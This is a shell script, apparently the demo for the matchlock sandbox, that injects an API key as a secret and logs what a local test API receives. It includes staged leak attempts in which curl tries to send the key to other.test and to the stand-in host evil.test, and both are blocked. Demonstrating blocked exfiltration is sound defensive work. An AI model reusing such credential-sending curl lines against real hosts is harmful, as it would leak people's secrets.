#!/bin/sh
# Part of make demo, run in private mount and network namespaces (unshare -mn): a local HTTPS
# "API" with its own CA on the private loopback, an API key that never enters the sandbox, and
# a leak attempt that is blocked. The server logs what it received, so we can show what left.
set -eu
cd "$(dirname "$0")/.."
ml=build/matchlock
ip link set lo up
srv=$(mktemp -d /tmp/matchlock-demo-api.XXXXXX)
python3 tests/integration/secrets_server.py "$srv" &
pid=$!
trap 'kill $pid 2>/dev/null; rm -rf "$srv"' EXIT
i=0
while [ ! -e "$srv/ready" ] && [ $i -lt 100 ]; do sleep 0.1; i=$((i + 1)); done

export DEMO_API_KEY="sk-demo-$(head -c 8 /dev/urandom | od -An -tx1 | tr -d ' \n')"
net="--add-host api.test:127.0.0.1 --add-host other.test:127.0.0.1 --upstream-ca $srv/ca.pem"

printf '\n$ DEMO_API_KEY=%s matchlock run --secret DEMO_API_KEY@api.test:8443 --allow-host other.test:8443 ... \n' "$DEMO_API_KEY"
# shellcheck disable=SC2086
"$ml" run --secret DEMO_API_KEY@api.test:8443 --allow-host other.test:8443 $net -- sh -c '
	echo "inside the sandbox: DEMO_API_KEY=$DEMO_API_KEY"
	echo "calling https://api.test:8443 with it:"
	curl -s -o /dev/null -w "  -> HTTP %{http_code}\n" -H "Authorization: Bearer $DEMO_API_KEY" https://api.test:8443/echo
	echo "trying to send it to https://other.test:8443 instead:"
	curl -s -w "  -> HTTP %{http_code}\n" -H "Authorization: Bearer $DEMO_API_KEY" https://other.test:8443/echo | sed "s/^/  /"
	echo "and to a host nobody allowed:"
	curl -s -m 5 https://evil.test/ || echo "  -> curl failed (exit $?): the name does not resolve"
' 2>&1 | grep -v '^matchlock: network: DNS denied'
echo "what the API on the host received (Authorization headers):"
grep -i '^authorization' "$srv/requests.log" | sed 's/^/  /'
if grep -q "$DEMO_API_KEY" "$srv/requests.log"; then echo "  (the real key arrived; it never existed inside the VM)"; fi
